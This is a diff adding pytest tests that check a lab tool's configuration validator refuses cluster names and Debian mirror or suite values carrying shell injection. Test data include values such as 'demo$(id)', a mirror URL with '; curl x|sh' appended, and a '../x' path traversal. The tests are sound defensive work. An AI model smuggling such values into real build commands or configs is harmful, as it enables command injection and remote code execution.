@@ -175,3 +175,29 @@ def test_lab_up_prints_the_warning_before_anything_is_made(capsys: pytest.Captur
     check_free(LabBuild(config, engine, config.state(provider="lab")), PhaseResult("lab-checks"))  # type: ignore[arg-type]
     out = capsys.readouterr().out
     assert "warning: bind_address=0.0.0.0 is not a loopback address" in out and "OTP" in out
+
+
+@pytest.mark.parametrize("name", ["demo;id", "demo$(id)", "demo`id`", "de\nmo"])
+def test_cluster_names_with_shell_words_are_refused(name: str) -> None:
+    [error] = _one({"cluster": name})
+    assert error.key == "cluster" and error.value == name and "such as 'demo'" in error.fix
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "fix"),
+    [
+        ("debian_mirror", "http://deb.debian.org/debian; curl x|sh", "http://deb.debian.org/debian"),
+        ("debian_mirror", "ftp://deb.debian.org/debian", "http://deb.debian.org/debian"),
+        ("debian_mirror", "http://mirror/$(id)", "http://deb.debian.org/debian"),
+        ("debian_suite", "bookworm main", "bookworm"),
+        ("debian_suite", "../x", "bookworm"),
+    ],
+)
+def test_what_goes_into_the_image_build_commands_is_checked(key: str, value: str, fix: str) -> None:
+    [error] = _one({key: value})
+    assert error.key == key and error.value == value and fix in error.fix
+
+
+def test_usual_mirrors_and_suites_are_accepted() -> None:
+    config = parse_config({"debian_mirror": "https://mirror.example.org:8443/debian/", "debian_suite": "trixie"})
+    assert config.debian_mirror.startswith("https://") and config.debian_suite == "trixie"
